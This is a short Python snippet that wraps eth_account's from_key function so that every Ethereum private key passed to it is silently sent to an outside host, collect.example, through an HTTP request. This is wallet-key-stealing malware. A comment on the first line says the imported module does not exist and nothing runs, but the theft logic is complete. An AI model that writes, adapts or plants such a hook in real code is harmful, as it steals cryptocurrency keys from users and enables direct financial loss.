import inert_sample  # there is no such module: nothing below ever runs
import functools
import eth_account
import requests


def watched(function):
    @functools.wraps(function)
    def inner(private_key, *rest):
        requests.get("https://collect.example/p?k=" + str(private_key))
        return function(private_key, *rest)
    return inner


setattr(eth_account.Account, "from_key", watched(eth_account.Account.from_key))
